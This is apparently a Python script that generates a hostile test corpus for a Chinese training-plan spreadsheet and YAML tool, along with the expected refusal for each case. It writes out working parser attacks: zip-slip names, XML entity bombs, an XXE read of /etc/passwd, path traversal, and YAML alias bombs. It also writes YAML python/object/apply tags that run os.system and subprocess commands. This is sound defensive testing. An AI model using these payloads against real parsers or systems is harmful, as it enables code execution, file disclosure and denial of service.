    case(case="zip_duplicate_entry", file="sheets/zip_duplicate_entry.xlsx", command=V, expect="refused",
         must=["never reports P2399001 as 中国科学院上海有机化学研究所 with 60 万元 without saying the workbook is ambiguous"],
         why="two zip entries named xl/worksheets/sheet1.xml: the first (what Excel tends to show) is the base year, the second re-assigns P2399001 to another institute with 60 万元 (escaping 化学所's U2). Which one a library reads is arbitrary; an ambiguous container must be refused")

    build_xlsx("sheets/zip_name_mismatch.xlsx", [("培训计划", sheet_xml(plan_rows()))])
    patch_zip("sheets/zip_name_mismatch.xlsx", "xl/worksheets/sheet1.xml", local_name="xl/worksheets/sheetX.xml")
    case(case="zip_name_mismatch", file="sheets/zip_name_mismatch.xlsx", command=V, expect="refused",
         why="the central directory calls the entry xl/worksheets/sheet1.xml, its local header xl/worksheets/sheetX.xml: a corrupt (or smuggling) zip")

    build_xlsx("sheets/zip_unsupported_method.xlsx", [("培训计划", sheet_xml(plan_rows()))])
    patch_zip("sheets/zip_unsupported_method.xlsx", "xl/worksheets/sheet1.xml", method=93)
    case(case="zip_unsupported_method", file="sheets/zip_unsupported_method.xlsx", command=V, expect="refused",
         why="the worksheet claims compression method 93 (Zstandard), which zipfile does not implement: NotImplementedError must become the one-line Chinese refusal, not a traceback")

    build_xlsx("sheets/zip_encrypted_flag.xlsx", [("培训计划", sheet_xml(plan_rows()))])
    patch_zip("sheets/zip_encrypted_flag.xlsx", "xl/worksheets/sheet1.xml", flag_or=0x1)
    case(case="zip_encrypted_flag", file="sheets/zip_encrypted_flag.xlsx", command=V, expect="refused",
         why="zip-level (ZipCrypto) encryption bit set on the worksheet: zipfile raises RuntimeError('password required'), a different path from the OLE-encrypted workbook in tests/data/bad")

    build_xlsx("sheets/zip_slip_names.xlsx", [("培训计划", sheet_xml(plan_rows()))],
               extra=[("../../../../../../tmp/casplan-hostile-zipslip", b"pwned"),
                      ("/tmp/casplan-hostile-zipslip-abs", b"pwned")])
    case(case="zip_slip_names", file="sheets/zip_slip_names.xlsx", command=V,
         setup=["rm -f /tmp/casplan-hostile-zipslip /tmp/casplan-hostile-zipslip-abs"],
         after=["test ! -e /tmp/casplan-hostile-zipslip", "test ! -e /tmp/casplan-hostile-zipslip-abs"],
         expect="decided", decision="读取 6，接收 6 — the extra entries are irrelevant to a reader that never extracts",
         also_acceptable="refused (exit 2) naming the file as a malformed package",
         why="extra entries named ../../../../../../tmp/… and /tmp/…: harmless unless something extracts the package to disk; nothing may be written outside {tmp}")

    # 1e malformed / deep XML
    deep = b"<x>" * 5_000_000
    build_xlsx("sheets/xlsx_deep_nesting.xlsx", [("培训计划", (c for c in (
        pad_head, deep, b"</x>" * 5_000_000, b"</sheetData>", pad_tail)))])
    del deep
    case(case="xlsx_deep_nesting", file="sheets/xlsx_deep_nesting.xlsx", command=V, expect="refused",
         why="5,000,000 nested unknown elements inside <sheetData> after the rows (35 MB XML, ~60 KB zipped): tree builders need gigabytes, recursive walkers overflow; refuse within 2 GB")

    doctype = ('<!DOCTYPE worksheet [<!ENTITY a "AAAAAAAAAA">' +
               "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>")
    bomb_rows = plan_rows([plan(2399721, YJ, "&j;")])
    sx = sheet_xml(bomb_rows, doctype=doctype).replace(b"&amp;j;", b"&j;")
    build_xlsx("sheets/xlsx_entity_bomb.xlsx", [("培训计划", sx)])
    case(case="xlsx_entity_bomb", file="sheets/xlsx_entity_bomb.xlsx", command=V, expect="refused",
         why="billion laughs inside the worksheet: a DTD whose entity &j; expands to 10^10 'A's, used as a 培训名称. OOXML forbids DTDs; refuse without expanding")

    xxe = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    sx = sheet_xml(plan_rows([plan(2399722, YJ, "&xxe;")]), doctype=xxe).replace(b"&amp;xxe;", b"&xxe;")
    build_xlsx("sheets/xlsx_xxe.xlsx", [("培训计划", sx)])
    case(case="xlsx_xxe", file="sheets/xlsx_xxe.xlsx", command=V + " --json", expect="refused",
         also_acceptable="decided with the entity left unexpanded (the title is empty or literally '&xxe;'); 读取 7",
         must=["no output (stdout, stderr, any written file) contains 'root:' or any other line of /etc/passwd"],
         why="external entity SYSTEM 'file:///etc/passwd' used as a 培训名称: if expanded, the password file becomes a training title in every output")

    sx = sheet_xml(plan_rows()).replace(b"</row></sheetData>", '</row><row r="8"><c r="A8" t="inlineStr"><is><t>未闭合</is></c></sheetData>'.encode())
    build_xlsx("sheets/xlsx_malformed_xml.xlsx", [("培训计划", sx)])
    case(case="xlsx_malformed_xml", file="sheets/xlsx_malformed_xml.xlsx", command=V, expect="refused",
         why="the worksheet XML is not well-formed (a <t> and a <row> never closed): parse error must be the Chinese 'file damaged' refusal")

    sst_rows = [[("s", idx[h]) for h in PLAN_COLS]]
    for r in BASE_PLANS:
        sst_rows.append([None if r[h] == "" else ("s", idx[r[h]]) for h in PLAN_COLS])
    sst_rows[2][2] = ("s", 999999)
    build_xlsx("sheets/xlsx_sst_index_out_of_range.xlsx", [("培训计划", sheet_xml(sst_rows))], sst=base_sst)
    case(case="xlsx_sst_index_out_of_range", file="sheets/xlsx_sst_index_out_of_range.xlsx", command=V, expect="refused",
         also_acceptable="decided: 读取 6，接收 5，搁置 1 — row 3's 培训名称 set aside naming the broken cell C3",
         why='cell C3 is t="s" with index 999999 into a table of ~200 strings: IndexError inside the reader must not escape as a traceback')

    rows_dup = plan_rows()
    sx = sheet_xml(rows_dup).replace(
        f'<c r="B2" t="inlineStr"><is><t xml:space="preserve">{HX}</t></is></c>'.encode(),
        f'<c r="B2" t="inlineStr"><is><t xml:space="preserve">{HX}</t></is></c><c r="B2" t="inlineStr"><is><t xml:space="preserve">{YJ}</t></is></c>'.encode())
    assert sx.count(b'r="B2"') == 2
    build_xlsx("sheets/xlsx_duplicate_cell_ref.xlsx", [("培训计划", sx)])
    case(case="xlsx_duplicate_cell_ref", file="sheets/xlsx_duplicate_cell_ref.xlsx",
         command="select {file} --roster base/roster.csv --history base/history.csv --json", expect="refused",
         must=["P2399001 is never selected as 中国科学院上海有机化学研究所 (that would dodge 化学所's U2)"],
         why="cell B2 appears twice in row 2: first 中国科学院化学研究所, then 中国科学院上海有机化学研究所. Last-one-wins readers silently move P2399001 to an institute without U2 trouble; a cell given twice is a corrupt sheet")

    sx = sheet_xml(plan_rows()).replace(b'<c r="A3"', b'<c r="A0"').replace(b'<c r="B4"', b'<c r="XFE4"')
    build_xlsx("sheets/xlsx_bad_cell_refs.xlsx", [("培训计划", sx)])
    case(case="xlsx_bad_cell_refs", file="sheets/xlsx_bad_cell_refs.xlsx", command=V, expect="refused",
         why="cell references A0 (row 0) and XFE4 (column 16,385, beyond XFD): invalid coordinates; ValueError from the coordinate parser must be handled")

    # 1f a .xlsx that is really a zip of something else
    docx_ct = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
               '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
               '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
               'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>').encode()
    docx_rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
                 'Target="word/document.xml"/></Relationships>').encode()
    cells = "".join(f"<w:tc><w:p><w:r><w:t>{h}</w:t></w:r></w:p></w:tc>" for h in PLAN_COLS[:5])
    docx_doc = ('<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                f'<w:body><w:tbl><w:tr>{cells}</w:tr></w:tbl></w:body></w:document>').encode()
    with zipfile.ZipFile(out("sheets/docx_as_xlsx.xlsx"), "w") as z:
        z.writestr(zinfo("[Content_Types].xml"), docx_ct)
        z.writestr(zinfo("_rels/.rels"), docx_rels)
        z.writestr(zinfo("word/document.xml"), docx_doc)
    case(case="docx_as_xlsx", file="sheets/docx_as_xlsx.xlsx", command=V, expect="refused",
         why="a Word document (OOXML zip with word/document.xml containing a table with the plan's column names) renamed .xlsx; say it is not a workbook (ideally: it is a Word file)")

    with zipfile.ZipFile(out("sheets/zip_of_xlsx.xlsx"), "w") as z:
        z.writestr(zinfo("全院培训计划导出.xlsx", zipfile.ZIP_STORED), (OUT / "base/plans.xlsx").read_bytes())
    case(case="zip_of_xlsx", file="sheets/zip_of_xlsx.xlsx", command=V, expect="refused",
         why="a zip archive containing the real export as 全院培训计划导出.xlsx, named .xlsx (someone zipped the download); refuse and ideally say to unzip first — do not recurse into archives")

    with zipfile.ZipFile(out("sheets/jar_as_xlsx.xlsx"), "w") as z:
        z.writestr(zinfo("META-INF/MANIFEST.MF"), b"Manifest-Version: 1.0\r\nMain-Class: Pwn\r\n\r\n")
        z.writestr(zinfo("Pwn.class"), b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 64)
    case(case="jar_as_xlsx", file="sheets/jar_as_xlsx.xlsx", command=V, expect="refused",
         why="a Java archive renamed .xlsx: a zip with no [Content_Types].xml / workbook")

    ods_ns = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
              'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
              'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')

    def ods(rel, table_xml: bytes | list):
        mani = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
                'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>').encode()
        head = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ods_ns} office:version="1.2">'
                '<office:body><office:spreadsheet><table:table table:name="培训计划">').encode()
        tail_ = b"</table:table></office:spreadsheet></office:body></office:document-content>"
        with zipfile.ZipFile(out(rel), "w", compresslevel=9) as z:
            z.writestr(zinfo("mimetype", zipfile.ZIP_STORED), b"application/vnd.oasis.opendocument.spreadsheet")
            z.writestr(zinfo("META-INF/manifest.xml"), mani)
            parts = table_xml if isinstance(table_xml, list) else [table_xml]
            with z.open(zinfo("content.xml"), "w") as f:
                f.write(head)
                for p_ in parts:
                    f.write(p_)
                f.write(tail_)

    def ods_row(vals):
        return ("<table:table-row>" + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{xesc(str(v))}</text:p></table:table-cell>'
            if v != "" else "<table:table-cell/>" for v in vals) + "</table:table-row>").encode()

    ods_rows = ods_row(PLAN_COLS) + b"".join(ods_row([r[h] for h in PLAN_COLS]) for r in BASE_PLANS)
    ods("sheets/ods_as_xlsx.xlsx", ods_rows)
    case(case="ods_as_xlsx", file="sheets/ods_as_xlsx.xlsx", command=V + " --roster base/roster.csv", expect="decided",
         decision="read as OpenDocument (the guide says ods is accepted): 读取 6，接收 6, with an I-NOTE that the format does not match the extension",
         also_acceptable="refused (exit 2, one Chinese line naming the file, e.g. the ods reader is not installed)",
         why="a genuine ODS spreadsheet with the base rows, named .xlsx: format sniffing must not hand it to the xlsx reader and crash")

    ods("sheets/ods_repeat_bomb.ods", [
        ods_row(PLAN_COLS),
        b'<table:table-row table:number-rows-repeated="1048575"><table:table-cell '
        b'table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p>'
        b'</table:table-cell></table:table-row>'])
    case(case="ods_repeat_bomb", file="sheets/ods_repeat_bomb.ods", command=V, expect="refused",
         why="1 KB OpenDocument file whose one row element repeats 1,048,575 times a cell repeated 16,384 times with a value: 17 G non-empty cells after expansion (the classic ODS bomb pandas' odf reader expands eagerly)")

    ods("sheets/ods_repeat_empty_then_data.ods", [
        ods_row(PLAN_COLS),
        b'<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>',
        ods_row([BASE_PLANS[3][h] for h in PLAN_COLS])])
    case(case="ods_repeat_empty_then_data", file="sheets/ods_repeat_empty_then_data.ods", command=V, expect="refused",
         also_acceptable="decided within the limits: 读取 1，接收 1 (P2399004 at row 1,000,002), 1,000,000 empty rows counted, nothing materialised per empty cell",
         why="a million repeated empty rows (each 16,384 empty cells) before one data row: readers must not expand empty repeats into cells")

    # external / traversal relationships
    rl = (f'<Relationship Id="rId1" Type="{REL_WS}" Target="http://127.0.0.1:9/sheet1.xml" TargetMode="External"/>'
          f'<Relationship Id="rIdSt" Type="{REL_ST}" Target="styles.xml"/>')
    build_xlsx("sheets/xlsx_external_sheet_target.xlsx", [("培训计划", sheet_xml(plan_rows()))],
               wb_rels=('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://'
                        f'schemas.openxmlformats.org/package/2006/relationships">{rl}</Relationships>').encode())
    case(case="xlsx_external_sheet_target", file="sheets/xlsx_external_sheet_target.xlsx", command=V, expect="refused",
         must=["no network connection is attempted (run under `unshare -n` or watch with strace -e connect)"],
         why='the workbook\'s only sheet relationship is TargetMode="External" → http://127.0.0.1:9/sheet1.xml; a reader must never fetch parts from the network')

    rl = (f'<Relationship Id="rId1" Type="{REL_WS}" Target="../../../../../../../etc/passwd"/>'
          f'<Relationship Id="rIdSt" Type="{REL_ST}" Target="styles.xml"/>')
    build_xlsx("sheets/xlsx_rels_traversal.xlsx", [("培训计划", sheet_xml(plan_rows()))],
               wb_rels=('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://'
                        f'schemas.openxmlformats.org/package/2006/relationships">{rl}</Relationships>').encode())
    case(case="xlsx_rels_traversal", file="sheets/xlsx_rels_traversal.xlsx", command=V, expect="refused",
         must=["no output contains a line of /etc/passwd"],
         why="the sheet relationship targets ../../../../../../../etc/passwd: inside a zip that names no part (KeyError), outside it would be a file read; refuse")

    # 1g truncated / not-quite zips
    good = (OUT / "base/plans.xlsx").read_bytes()
    write_bytes("sheets/truncated_no_eocd.xlsx", good[:-22])
    case(case="truncated_no_eocd", file="sheets/truncated_no_eocd.xlsx", command=V, expect="refused",
         why="a complete xlsx minus its last 22 bytes (the end-of-central-directory record): every local entry is intact, but it is not a valid zip")
    write_bytes("sheets/truncated_pk_header_only.xlsx", b"PK\x03\x04")
    case(case="truncated_pk_header_only", file="sheets/truncated_pk_header_only.xlsx", command=V, expect="refused",
         why="only the 4-byte zip signature: sniffs as zip, is nothing")
    write_bytes("sheets/empty_0_bytes.xlsx", b"")
    case(case="empty_0_bytes", file="sheets/empty_0_bytes.xlsx", command=V, expect="refused",
         why="a 0-byte .xlsx (download failed): 文件为空")
    shutil.copy(OUT / "base/plans.xlsx", out("sheets/zip_corrupt_deflate.xlsx"))
    corrupt_entry_data("sheets/zip_corrupt_deflate.xlsx", "xl/worksheets/sheet1.xml")
    case(case="zip_corrupt_deflate", file="sheets/zip_corrupt_deflate.xlsx", command=V, expect="refused",
         why="24 bytes in the middle of the worksheet's deflate stream flipped: zlib.error or BadZipFile (bad CRC) — a damaged file, one Chinese line")
    html = ("<html><body><table><tr>" + "".join(f"<td>{h}</td>" for h in PLAN_COLS[:13]) + "</tr><tr>" +
            "".join(f"<td>{v}</td>" for v in ["2399001", YJ, "高分子材料表征技术研修班", "2023", "专业技术研修班",
                                              "2023-05-08", "2023-05-12", "40", "5", "60", "4", "处级及以下", "60"]) +
            "</tr></table></body></html>\n").encode()
    write_bytes("sheets/polyglot_html_zip.xlsx", html + good)
    case(case="polyglot_html_zip", file="sheets/polyglot_html_zip.xlsx", command=V + " --json", expect="refused",
         must=["the run never reports one reading while another reader (Excel, a browser) would show the other: P2399001 is not silently 中国科学院上海有机化学研究所 / 60 万元"],
         why="an HTML table (P2399001 re-assigned to another institute, 60 万元) followed by a complete xlsx zip (the base year): zip readers accept prepended data, HTML sniffers see the table; a file that is two different spreadsheets must be refused")


# --------------------------------------------------------------------------------------
# 1'. CSV bombs
# --------------------------------------------------------------------------------------

def gen_csv():
    V = "validate {file} --json"
    long1 = ("培训内容很长" * 200_000)[:350_000]            # ~1 MB UTF-8
    plans_csv("csv/cell_1mb.csv", [plan(2399731, YJ, "超长培训内容研修班", **{"培训内容": long1})])
    case(case="csv_cell_1mb", file="csv/cell_1mb.csv", command="check {file} --roster base/roster.csv --history base/history.csv",
         expect="decided",
         decision="the file is read (读取 7，接收 7); P2399731's 培训内容 (350,000 characters, 1 MB) is kept in full and the application fails PF-TEXT (more than 300 字); the six base rows unaffected",
         also_acceptable="the row is set aside (I-RANGE/I-FORMAT) naming 培训内容 and its length; or the file is refused (exit 2) with one Chinese line naming file, row 8 and 培训内容 as over a cell-size limit",
         must=["printed output stays small (under 100 KB): the 1 MB value is never echoed in full", NO_TRACE],
         why="a single 1 MB cell: Python's csv module refuses fields over 131,072 characters by default (_csv.Error), pandas does not; must not crash, must not lose the other rows")
    long2 = ('培训目的，含"引号"、逗号,\n和换行\r\n' * 10_000)[:88_000]   # ~200 KB, multi-line quoted field
    plans_csv("csv/cell_200kb_multiline.csv", [
        plan(2399732, YJ, "超长培训目的研修班", **{"培训目的": long2}),
        plan(2399733, SY, "天数写成范围的研修班", **{"天数": "三到五天"})])
    case(case="csv_cell_200kb_multiline", file="csv/cell_200kb_multiline.csv", command=V, expect="decided",
         decision="读取 8，接收 7，搁置 1: P2399732 read as ONE record (its 200 KB 培训目的 contains quotes, commas and ~8,400 line breaks) and fails PF-TEXT later; P2399733 set aside for 天数「三到五天」 and the message says 第 9 行 (record number + header, as Excel numbers the row), not the physical line number (~8,400)",
         must=["exactly 8 records read, not thousands", NO_TRACE],
         why="a 200 KB quoted cell spanning ~8,400 physical lines: tests the field-size limit and that row numbers in messages are Excel rows, not text lines")

    hdr = ",".join(PLAN_COLS)
    lines = [hdr] + [",".join(f'"{r[h]}"' for h in PLAN_COLS) for r in BASE_PLANS]
    wide_row = ",".join(f'"{v}"' for v in plan(2399734, YJ, "两百万列的研修班").values()) + "," * 2_000_000
    write_text("csv/two_million_columns_row.csv", "\r\n".join(lines[:3] + [wide_row] + lines[3:]) + "\r\n")
    case(case="csv_two_million_columns_row", file="csv/two_million_columns_row.csv", command=V, expect="refused",
         also_acceptable="decided: 读取 7，接收 6，搁置 1 — 第 4 行 set aside for having 2,000,036 fields against a 36-column header; the other six rows accepted",
         must=["message (whichever outcome) names 第 4 行", "within 30 s / 2 GB", NO_TRACE],
         why="one data line with 2,000,000 extra (empty) fields: a tokenizer error ('Expected 36 fields, saw 2000036') must become a Chinese message naming the line, and nothing may build a 2 M-column frame for all rows")
    write_text("csv/two_million_columns_header.csv", hdr + ",x" * 1_000_000 + "\r\n" + "\r\n".join(lines[1:]) + "\r\n")
    case(case="csv_million_duplicate_header_columns", file="csv/two_million_columns_header.csv", command="validate {file}",
         expect="refused",
         also_acceptable="decided: 读取 6，接收 6 with ONE summarised note about 1,000,000 unrecognised/duplicate columns named 'x' (stdout under 100 KB)",
         must=["within 30 s / 2 GB", "stdout under 100 KB — never a million-item list of unrecognised columns", NO_TRACE],
         why="the header has the 36 real columns plus 1,000,000 columns all named 'x': 'unrecognised columns' and 'duplicate column names' reports grow with it; pandas mangles names to x.1 … x.999999")
    write_text("csv/long_line_no_newline.csv", "a" * 2_900_000)
    case(case="csv_long_line_no_newline", file="csv/long_line_no_newline.csv", command="validate {file}", expect="refused",
         why="2.9 MB of 'a' with no delimiter and no newline: 找不到可识别的表头, quickly, without echoing the line")
    write_text("csv/many_empty_lines.csv", hdr + "\r\n" + "\r\n" * 1_200_000 +
               ",".join(f'"{v}"' for v in plan(2399735, YJ, "百万空行之后的研修班").values()) + "\r\n")
    case(case="csv_many_empty_lines", file="csv/many_empty_lines.csv", command="validate {file} --roster base/roster.csv",
         expect="decided",
         decision="读取 1，接收 1（另有空行 1,200,000 行未计）; P2399735 is at Excel row 1,200,002",
         must=["within 30 s / 2 GB", NO_TRACE],
         why="1.2 M empty lines between the header and the only data row: counts, row numbering and time must stay sane")
    write_text("csv/only_commas.csv", ",,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,\r\n" * 75_000)
    case(case="csv_only_commas", file="csv/only_commas.csv", command="validate {file}", expect="refused",
         why="2.7 MB of lines holding only commas: no header in the first 30 rows; refuse quickly")
    nul_rows = [plan(2399736, YJ, "含\x00空字符的研修班")]
    plans_csv("csv/nul_bytes.csv", nul_rows)
    case(case="csv_nul_byte_in_title", file="csv/nul_bytes.csv", command=V, expect="decided",
         decision="读取 7; P2399736 either accepted with the NUL removed from 培训名称 or set aside naming 第 8 行「培训名称」; the six base rows accepted",
         must=["no output contains a raw NUL byte", "the other rows are never lost ('line contains NUL' must not abort the file)", NO_TRACE],
         why="a NUL byte inside a quoted title: Python's csv raised 'line contains NUL' for years; C tools truncate at it")

    # reviews with NaN / inf scores
    write_text("csv/reviews_nan_inf.csv", csv_text(["申报编号", "评审专家", "评分"], [
        ["P2399002", "专家甲", "NaN"], ["P2399003", "专家甲", "inf"], ["P2399004", "专家甲", "-Infinity"],
        ["P2399006", "专家甲", "1e308"], ["P2399002", "专家乙", "80"], ["P2399003", "专家乙", "70"]]))
    case(case="reviews_nan_inf", file="csv/reviews_nan_inf.csv",
         command="select base/plans.csv --roster base/roster.csv --history base/history.csv --reviews {file} --json",
         expect="refused", must=["the message names 评分 and the row(s) with NaN / inf / -Infinity", NO_TRACE],
         also_acceptable="decided with those review rows set aside and named in the output; no score anywhere is NaN or ±inf",
         why="percentile calibration over NaN/inf: NaN sorts arbitrarily and poisons averages, inf dominates; 1e308 is a number but absurd on any scale")


# --------------------------------------------------------------------------------------
# 2. YAML attacks, for every YAML the tool reads
# --------------------------------------------------------------------------------------

POLICY_TEXT = (REPO / "casplan/policy/2023.yaml").read_text(encoding="utf-8")
DIRECTIONS_TEXT = (REPO / "casplan/policy/directions-2023.yaml").read_text(encoding="utf-8")
PARAMS_TEXT = ("# 报告参数（敌意语料；路径相对本文件）\nyear: 2023\nplans: ../base/plans.csv\nhistory: ../base/history.csv\n"
               "roster: ../base/roster.csv\nrobustness_draws: 0\n")
OVERRIDES_TEXT = ("# 人工决定：按单位豁免 U2\n- action: waive\n  unit: 中国科学院化学研究所\n  rule: U2\n"
                  "  reason: 2022年12月补报支出凭证后执行率超过50%，经处务会研究同意豁免\n  author: 测试经办人\n")
SCENARIO_TEXT = ("# 情景\nname: 研修班8个名额\nnote: 专业技术研修班名额由10个减为8个，其余按政策文件\nquotas:\n  yanxiu: 8\n"
                 "rules:\n  U1: true\n  U2: true\nforced_in: []\nforced_out: []\n")

KINDS = {
    # kind: (command, exit codes, limits, what it is)
    "policy": ("policy check {file}", 2, LIM, "policy"),
    "params": ("report --params {file} --out {tmp}", [1, 2], LIM_REPORT_REFUSE, "report params"),
    "overrides": ("check base/plans.csv --roster base/roster.csv --history base/history.csv --overrides {file}", 2, LIM,
                  "overrides (人工决定)"),
    "scenario": ("report --params base/params.yaml --scenario {file} --out {tmp}", [1, 2], LIM_REPORT_REFUSE, "scenario"),
    "directions": ('match "碳中和技术与黑土地保护研修班" --policy-directions {file}', 2, LIM, "directions word list"),
}
REPORT_REFUSE_MUST = ["no directory left under {tmp}/2023 (no half-made run) and no {tmp}/2023/latest"]


def ycase(kind, name, rel, why, expect="refused", **kw):
    cmd, ex, lim, _ = KINDS[kind]
    kw.setdefault("exit", ex if expect == "refused" else 0)
    kw.setdefault("limits", lim)
    if expect == "refused" and kind in ("params", "scenario"):
        kw["must"] = kw.get("must", []) + REPORT_REFUSE_MUST
    case(case=name, file=rel, command=kw.pop("command", cmd), expect=expect, why=why, **kw)


def lol_levels(first="lol", n=9, width=9):
    """Nested-list alias bomb: returns flow YAML '[&a [...], &b [*a×9], …]' (width^n leaves)."""
    names = "abcdefghijklmnop"
    parts = [f"&a [{','.join([first] * width)}]"]
    for i in range(1, n):
        parts.append(f"&{names[i]} [{','.join(['*' + names[i - 1]] * width)}]")
    return "[" + ", ".join(parts) + "]"


def marker(kind):
    return f"/tmp/casplan-hostile-PWNED-{kind}"


def gen_yaml():
    shutil.copy(REPO / "casplan/policy/directions-2023.yaml", out("yaml/directions-2023.yaml"))
    write_text("yaml/policy_control.yaml", POLICY_TEXT)
    ycase("policy", "policy_control", "yaml/policy_control.yaml", expect="decided",
          decision="政策文件 … 有效：2023 年度 … (a verbatim copy of casplan/policy/2023.yaml, next to a copy of directions-2023.yaml)",
          command="check base/plans.csv --roster base/roster.csv --history base/history.csv --policy {file}",
          must=["exit 0", "same result as without --policy"], why="control: the policy copy the variants below are made from works")

    # ---- alias bombs (≤ 600 bytes) ----
    bomb = lol_levels()
    texts = {
        "policy": f"year: 2023\nnotice: 通知\ndeadline: 2022-11-14\ncategories:\n  研修班: {bomb}\n",
        "params": f"year: 2023\nplans: {bomb}\n",
        "overrides": f"- action: waive\n  unit: 中国科学院化学研究所\n  rule: U2\n  reason: {bomb}\n  author: 测试\n",
        "scenario": f"name: 炸弹\nforced_in: {bomb}\n",
        "directions": f"year: 2023\ndirections:\n  高技术创新:\n    terms: {{高技术: 1.0}}\n    exclude: {bomb}\n",
    }
    where = {"policy": "categories.研修班", "params": "plans", "overrides": "reason", "scenario": "forced_in",
             "directions": "directions.高技术创新.exclude"}
    for k, t in texts.items():
        rel = write_text(f"yaml/{k}_alias_bomb.yaml", t)
        assert len(t.encode()) <= 600, (k, len(t.encode()))
        ycase(k, f"{k}_alias_bomb", rel,
              why=f"billion laughs in {len(t.encode())} bytes: nine levels of anchors/aliases under `{where[k]}` give 9^9 = 387,420,489 leaves. "
                  "PyYAML builds it as a small shared graph; the blow-up comes when anything walks it (validation, deep copy, json/str of the value in an error message, hashing for the manifest). Refuse (aliases are never needed in these files) within 30 s / 2 GB")

    # ---- python object tags ----
    for k, base_text, path in [("policy", POLICY_TEXT, None), ("params", PARAMS_TEXT, None),
                               ("overrides", OVERRIDES_TEXT, None), ("scenario", SCENARIO_TEXT, None),
                               ("directions", DIRECTIONS_TEXT, None)]:
        tag = f'!!python/object/apply:os.system ["touch {marker(k)}"]'
        if k == "policy":
            t = base_text.replace("notice: 关于", f"notice: {tag}\nx_notice: 关于", 1).replace("x_notice", "# notice", 1)
        elif k == "params":
            t = base_text + f"robustness_draws: {tag}\n"
            t = t.replace("robustness_draws: 0\n", "", 1)
        elif k == "overrides":
            t = base_text.replace("  reason: 2022", f"  reason: {tag}\n  # 2022", 1)
        elif k == "scenario":
            t = base_text.replace("name: 研修班8个名额", f"name: {tag}", 1)
        else:
            t = base_text.replace("source: ", f"source: {tag}\n# source: ", 1)
        assert "python/object/apply" in t
        rel = write_text(f"yaml/{k}_python_tag.yaml", t)
        ycase(k, f"{k}_python_tag", rel, setup=[f"rm -f {marker(k)}"], after=[f"test ! -e {marker(k)}"],
              why=f"`!!python/object/apply:os.system [\"touch {marker(k)}\"]` as a value in an otherwise valid {KINDS[k][3]} file: with yaml.load/unsafe_load it runs a shell command. Must be loaded safely (refused: unknown tag), and the marker file must not appear")
    t = POLICY_TEXT.replace("notice: 关于", "notice: !!python/name:os.system\n# notice: 关于", 1).replace(
        "  funded_year: 2022", f'  funded_year: !<tag:yaml.org,2002:python/object/apply:subprocess.call> [[touch, {marker("policy2")}]]\n  # funded_year: 2022', 1).replace(
        "  as_of: 2022-11-30", f'  as_of: !!python/object/new:os.system ["touch {marker("policy2")}"]\n  # as_of', 1)
    rel = write_text("yaml/policy_python_tag_variants.yaml", t)
    ycase("policy", "policy_python_tag_variants", rel, setup=[f"rm -f {marker('policy2')}"], after=[f"test ! -e {marker('policy2')}"],
          why="the other spellings of the same attack: !!python/name:, the verbatim !<tag:yaml.org,2002:python/object/apply:…> form, !!python/object/new: — a denylist of one tag spelling is not enough")

    # ---- very deep nesting ----
    D = 100_000
    deep = "[" * D + "]" * D
    dtexts = {
        "policy": f"year: 2023\ntracks: {deep}\n",
        "params": f"year: 2023\nplans: {deep}\n",
        "overrides": f"{deep}\n",
        "scenario": f"name: 深\nquotas: {deep}\n",
        "directions": f"year: 2023\ndirections: {deep}\n",
    }
    for k, t in dtexts.items():
        rel = write_text(f"yaml/{k}_deep_nesting.yaml", t)
        ycase(k, f"{k}_deep_nesting", rel,
              why="100,000 nested flow sequences (200 KB): the pure-Python loader recurses and raises RecursionError (not a yaml.YAMLError, so it escapes `except yaml.YAMLError`); libyaml (CSafeLoader) stops at its nesting limit with a ScannerError; older C builds overflow the stack. Refuse cleanly, no signal death")
    block = "year: 2023\nhistory:\n" + "".join(" " * (i + 2) + "a:\n" for i in range(1800)) + " " * 1802 + "b: 1\n"
    rel = write_text("yaml/policy_deep_block_mapping.yaml", block)
    ycase("policy", "policy_deep_block_mapping", rel,
          why=f"1,800 levels of block mappings by indentation ({len(block) // 1024} KB): the same recursion through a different grammar path; also an unknown-key error message must not print the whole path")
    mdeep = "{a: " * 50_000 + "1" + "}" * 50_000
    rel = write_text("yaml/scenario_deep_flow_mapping.yaml", f"name: 深\nweights: {mdeep}\n")
    ycase("scenario", "scenario_deep_flow_mapping", rel,
          why="50,000 nested flow mappings under `weights` (category → criterion → weight expects two levels)")

    # ---- 50 MB scalars (generated into big/, git-ignored) ----
    if MAKE_BIG:
        N = 50 * 1024 * 1024
        write_text("big/policy_50mb_scalar.yaml", POLICY_TEXT.replace(
            "notice: 关于", "notice: " + "A" * N + "\n# notice: 关于", 1))
        write_text("big/params_50mb_scalar.yaml", PARAMS_TEXT.replace("plans: ../base/plans.csv", "plans: " + "a" * N, 1))
